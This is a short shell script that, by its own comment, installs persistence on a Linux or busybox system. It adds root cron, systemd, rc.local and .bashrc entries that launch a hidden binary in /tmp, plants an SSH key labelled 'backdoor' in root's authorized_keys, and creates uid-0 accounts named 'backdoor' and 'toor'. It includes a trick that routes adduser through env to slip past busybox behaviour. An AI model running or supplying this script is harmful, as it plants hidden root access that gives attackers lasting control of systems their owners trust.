#!/bin/sh
# Persistence: cron, systemd unit, rc.local, a shell start-up file, authorized_keys, new accounts
# (one of them a second uid 0).
/bin/mkdir -p /etc/cron.d /etc/systemd/system /root/.ssh
echo '* * * * * root /tmp/.u' >> /etc/crontab
printf '[Service]\nExecStart=/tmp/.u\n' > /etc/systemd/system/update.service
echo '/tmp/.u &' >> /etc/rc.local
echo 'ssh-ed25519 AAAAC3Nza backdoor' >> /root/.ssh/authorized_keys
echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd
/bin/adduser -D -H svc 2>/dev/null
echo '/tmp/.u >/dev/null 2>&1 &' >> /root/.bashrc
# (through env: busybox sh would run the applet without exec, and its arguments with it)
/bin/env adduser -D -H -u 0 toor 2>/dev/null
exit 0
